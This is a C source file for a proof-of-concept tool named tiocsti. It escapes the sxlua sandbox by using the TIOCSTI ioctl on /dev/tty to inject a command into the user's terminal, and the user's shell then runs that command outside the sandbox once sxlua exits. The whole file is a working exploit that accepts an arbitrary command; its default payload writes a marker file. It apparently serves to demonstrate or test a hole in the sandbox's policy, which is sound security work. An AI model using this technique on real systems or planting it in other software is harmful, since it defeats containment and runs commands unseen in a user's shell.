/* tiocsti: push a command into the controlling terminal's input queue (TIOCSTI). sxlua
** does not give the workload a session of its own, so the terminal is the user's: once
** sxlua exits, the user's shell reads and runs the command, outside any sandbox.
** Usage: tiocsti [COMMAND]; uses /dev/tty (the controlling terminal), so redirecting
** stdin does not help. Needs only openat, ioctl, write (policies/minimal.lua allows them). */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
#include <errno.h>

int main(int argc, char **argv) {
  const char *cmd = argc > 1 ? argv[1] : "id > /tmp/sxlua-tiocsti-pwned\n";
  int fd = open("/dev/tty", O_RDWR), ok = 0;
  if (fd < 0) { fprintf(stderr, "tiocsti: /dev/tty: %s\n", strerror(errno)); fd = 0; }
  for (const char *c = cmd; *c; c++)
    if (ioctl(fd, TIOCSTI, c) == 0) ok++;
    else { fprintf(stderr, "tiocsti: TIOCSTI: %s\n", strerror(errno)); break; }
  fprintf(stderr, "tiocsti: pushed %d of %zu bytes into the terminal\n", ok, strlen(cmd));
  return 0;
}
